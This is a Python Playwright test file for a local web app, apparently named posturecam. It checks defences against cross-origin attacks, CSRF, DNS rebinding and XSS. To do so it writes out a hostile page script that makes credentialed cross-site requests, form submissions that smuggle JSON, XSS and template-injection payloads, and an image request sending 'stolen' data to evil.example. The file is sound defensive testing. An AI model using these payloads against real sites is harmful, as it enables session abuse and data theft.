"""Attacks on the page from other pages in the same browser, where its cookie is."""

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from posturecam.errors import PosturecamError
from tests.support.browser import EVIL, needs_chromium
from tests.support.evil_site import EvilSite, evil_site
from tests.support.page_world import SCENARIOS, FakeLive, FakeRecords, World, serving

pytestmark = [needs_chromium, pytest.mark.desktop]

# A page that tries everything at the address TARGET, and keeps what worked in window.got.
TRIES = """
<div id=holder></div>
<script>
const got = window.got = [];
const target = "TARGET", ws = target.replace("http", "ws");
const body = JSON.stringify({do: "snooze", for_s: 900});
async function ask(name, how) {
  try {
    const answer = await fetch(target + name, {credentials: "include", ...how});
    if (answer.type !== "opaque") got.push(["fetch", name, answer.status]);
  } catch {}
}
function load(tag, name, where) {
  return new Promise((done) => {
    const one = document.createElement(tag);
    one.onload = () => { got.push([tag, name]); done(); };
    one.onerror = () => done();
    if (tag === "link") { one.rel = "stylesheet"; one.href = target + name; }
    else if (tag === "object") one.data = target + name;
    else one.src = target + name;
    if (tag === "script") one.type = "module";
    document.body.append(one);
    setTimeout(done, 1000);
  });
}
function connect() {
  return new Promise((done) => {
    const socket = new WebSocket(ws + "api/follow");
    socket.onopen = () => { got.push(["websocket"]); done(); };
    socket.onerror = done;
  });
}
function follow() {
  return new Promise((done) => {
    const source = new EventSource(target + "api/follow", {withCredentials: true});
    source.onopen = () => { got.push(["events"]); done(); };
    source.onerror = () => { source.close(); done(); };
  });
}
function submit(kind) {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  holder.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {method: "POST", action: target + "api/do", enctype: kind});
  form.target = frame.name;
  const field = document.createElement("input");
  field.name = '{"do": "snooze", "for_s": 900, "x": "'; field.value = '"}';
  form.append(field);
  document.body.append(form);
  form.submit();
}
async function attack() {
  const json = {"Content-Type": "application/json"};
  await ask("api/state", {});
  await ask("api/settings", {mode: "no-cors"});
  await ask("api/do", {method: "POST", headers: json, body});
  await ask("api/do", {method: "POST", mode: "no-cors", body});
  navigator.sendBeacon(target + "api/do", body);
  navigator.sendBeacon(target + "api/do", new Blob([body], {type: "application/json"}));
  await Promise.all([
    load("img", "api/picture"),
    load("img", "assets/icon.svg"),
    load("script", "assets/app.js"),
    load("link", "assets/style.css"),
    load("object", ""),
    connect(),
    follow(),
  ]);
  for (const kind of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    submit(kind);
  }
  await new Promise((done) => setTimeout(done, 500));
  document.title = "done";
}
attack();
</script>
"""
PATIENCE_MS = 300_000
TYPED = "<img src=x onerror=hacked()><script>hacked()</script>\"'`--></p>{{7*7}}${7*7}"
HACKED = "window.hacks = 0; window.hacked = window.alert = () => { window.hacks += 1; };"
MEANT = {"light", "verdict", "level", "type", "what", "stage", "start", "end", "day", "key"}
MEANT |= {"cause", "pose", "label", "before", "made", "date", "kind", "src", "state"}


@pytest.fixture(scope="module")
def evil() -> Iterator[EvilSite]:
    with evil_site() as site:
        yield site


@pytest.mark.parametrize("name", [EVIL, "127.0.0.1", "localhost"])
@pytest.mark.parametrize("knows_place", [True, False])
def test_another_page_reaches_nothing(
    browser: Browser, evil: EvilSite, name: str, *, knows_place: bool
) -> None:
    """Even one that knows port and place, and even on another port of the same host."""
    with serving() as world, browser.new_context() as context:
        mine = open_page(context.new_page(), world)
        here = f"http://{world.server.address}/"
        evil.page = TRIES.replace("TARGET", world.base if knows_place else here)
        evil.cookies.clear()

        page = context.new_page()
        page.goto(f"http://{name}:{evil.port}/")
        expect(page).to_have_title("done", timeout=PATIENCE_MS)

        assert page.evaluate("window.got") in ([], [["object", ""]]), "an empty frame loads"
        assert not world.live.asked
        assert not world.live.pictured
        assert {frame_text(frame) for frame in page.frames[1:]} <= {"", "blocked"}
        assert not any("posturecam" in cookie for cookie in evil.cookies), "not even the cookie"
        expect(mine.locator("body")).to_have_attribute("data-connection", "running")


def test_a_link_from_another_page_leads_nowhere(browser: Browser, evil: EvilSite) -> None:
    with serving() as world, browser.new_context() as context:
        open_page(context.new_page(), world)
        evil.page = f"<a href='{world.base}api/settings'>look</a>"
        page = context.new_page()
        page.goto(f"http://{EVIL}:{evil.port}/")

        with page.expect_response("**/api/settings") as reply:
            page.locator("a").click()

        assert reply.value.status in (401, 403)
        expect(page.locator("body")).to_have_text("Other pages may not ask here.")


def test_a_name_made_to_lead_here_is_refused(browser: Browser) -> None:
    with serving() as world, browser.new_context() as context:
        open_page(context.new_page(), world)
        rebound = world.base.replace("127.0.0.1", EVIL)
        page = context.new_page()

        reply = page.goto(rebound)

        assert reply is not None
        assert reply.status == 421
        tried = page.evaluate("fetch('api/state').then((r) => r.status)")
        assert tried == 421


def test_nothing_that_was_typed_becomes_a_script(browser: Browser) -> None:
    records = FakeRecords()
    usual = FakeRecords()
    for name in ("today", "settings", "exercises", "profiles", "self_check", "doctor", "privacy"):
        records.answers[name] = spoiled(getattr(usual, name)())
    records.answers["history"] = spoiled(usual.history(14))
    live = FakeLive("beyond", more=spoiled(SCENARIOS["beyond"]))
    with serving(live, records) as world, browser.new_context() as context:
        page = context.new_page()
        page.add_init_script(HACKED)
        open_page(page, world)

        for scenario in ("beyond", "calibrating", "refused", "paused"):
            live.scenario, live.more = scenario, spoiled(SCENARIOS[scenario])
            for view in all_views(page):
                page.goto(f"{world.base}#/{view}")
                expect(page.locator("main .view > *").first).to_be_attached()
                if scenario == "beyond" and view != "calibrate":
                    expect(page.locator("main")).to_contain_text("<script>hacked()")
                assert is_untouched(page)
        page.goto(f"{world.base}#/calibrate")
        live.scenario, live.more = "calibrating", spoiled(SCENARIOS["calibrating"])
        expect(page.locator("main")).to_contain_text("<script>hacked()")
        assert is_untouched(page)


def test_no_error_becomes_a_script(browser: Browser) -> None:
    class Failing(FakeRecords):
        def settings(self, *_: Any) -> Any:
            raise PosturecamError(TYPED)

        profiles = history = settings

    with serving(records=Failing()) as world, browser.new_context() as context:
        page = context.new_page()
        page.add_init_script(HACKED)
        open_page(page, world)
        for view in ("settings", "profiles", "history"):
            page.goto(f"{world.base}#/{view}")
            expect(page.locator("#said")).to_contain_text("<script>")
        assert page.evaluate("window.hacks") == 0


def test_the_policy_stops_what_would_get_in_all_the_same(browser: Browser) -> None:
    """Were text ever set as HTML by a slip, the browser would not run it."""
    with serving() as world, browser.new_context() as context:
        page = context.new_page()
        page.add_init_script(HACKED)
        open_page(page, world)
        page.evaluate(
            """(typed) => {
              document.body.insertAdjacentHTML("beforeend", typed);
              const script = document.createElement("script");
              script.textContent = "hacked()";
              document.body.append(script);
              const link = document.createElement("a");
              link.href = "javascript:hacked()";
              document.body.append(link);
              link.click();
              const far = new Image();
              far.src = "http://evil.example/?stolen";
            }""",
            TYPED,
        )
        page.wait_for_timeout(300)

        assert page.evaluate("window.hacks") == 0
        asked = page.evaluate("fetch('http://evil.example/').then(() => 'sent', () => 'stopped')")
        assert asked == "stopped"


def test_the_report_runs_no_script_and_is_no_part_of_the_page(browser: Browser) -> None:
    records = FakeRecords()
    records.answers["report"] = f"<!doctype html><title>r</title><p style='color:red'>{TYPED}"
    with serving(records=records) as world, browser.new_context() as context:
        page = context.new_page()
        page.add_init_script(HACKED)
        open_page(page, world)

        page.goto(f"{world.base}report?days=7")

        assert page.evaluate("window.hacks") == 0
        assert page.evaluate("self.origin") == "null", "in a sandbox of its own"
        assert (
            page.locator("p").first.evaluate("one => getComputedStyle(one).color")
            == "rgb(255, 0, 0)"
        )


def open_page(page: Page, world: World) -> Page:
    page.goto(world.invite())
    expect(page.locator("body[data-connection=running]")).to_be_attached()
    return page


def is_untouched(page: Page) -> bool:
    page.wait_for_timeout(100)  # for what was let in to run
    let_in = page.locator("main img[src=x], main script").count()
    return not let_in and page.evaluate("window.hacks") == 0


def all_views(page: Page) -> list[str]:
    links = page.locator("nav a[href^='#/']").evaluate_all("all => all.map((one) => one.hash)")
    return [link.removeprefix("#/") for link in links]


def frame_text(frame: Any) -> str:
    try:
        return "" if "posturecam" not in frame.content() else frame.content()
    except Exception as error:  # noqa: BLE001 - the browser shows an error of its own
        return "blocked" if error else ""


def spoiled(value: Any, name: str = "") -> Any:
    """Every text in `value` as somebody could have typed it."""
    if isinstance(value, dict):
        return {key: spoiled(one, key) for key, one in value.items()}
    if isinstance(value, list | tuple):
        return [spoiled(one, name) for one in value]
    return value + TYPED if isinstance(value, str) and name not in MEANT else value
